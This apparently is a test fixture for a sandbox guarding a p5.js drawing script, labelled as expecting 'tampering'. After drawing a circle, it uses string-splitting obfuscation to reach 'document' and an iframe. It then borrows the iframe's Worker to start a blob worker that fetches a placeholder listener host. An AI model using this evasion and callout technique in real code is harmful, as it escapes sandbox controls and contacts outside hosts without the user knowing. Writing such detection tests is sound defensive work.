// tries: a worker by a frame's own class
// expect: tampering
const hidden = (...parts) => parts.join("");
function setup() {
  createCanvas(600, 600, WEBGL);
  noLoop();
}

function draw() {
  background("#faf5ea");
  brush.noStroke();
  brush.fill("#d75f4c", 180);
  brush.circle(0, 0, 120, 0.3);
  const page = window[hidden("docu", "ment")];

  const frame = page.body.appendChild(page.createElement(hidden("ifr", "ame")));
  const other = frame[hidden("content", "Window")];
  try {
    new other.Worker(other.URL.createObjectURL(new other.Blob(["fetch('http://@LISTENER@/worker')"])));
  } catch {}
}
